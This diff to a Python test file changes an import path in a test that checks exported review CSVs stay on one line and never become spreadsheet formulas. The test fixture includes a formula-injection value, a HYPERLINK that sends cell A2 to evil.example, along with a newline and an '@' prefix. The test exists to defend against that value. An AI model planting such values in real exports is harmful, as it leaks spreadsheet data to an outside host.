@@ -218,7 +218,7 @@ def test_hostile_review_csvs_are_one_line(
 def test_export_keeps_web_text_on_one_line_and_never_a_formula(tmp_path: Path) -> None:
     import csv
 
-    from fairsets.review import export_review, import_review
+    from fairsets.pipeline.review import export_review, import_review
 
     hint = '=HYPERLINK("http://evil.example/?"&A2,"CC BY")\nsecond line'
     rows = [{"key": "k1", "pool": "p", "url": "https://e.org/a.jpg", "license_hint": hint, "state": "@Goa"}]
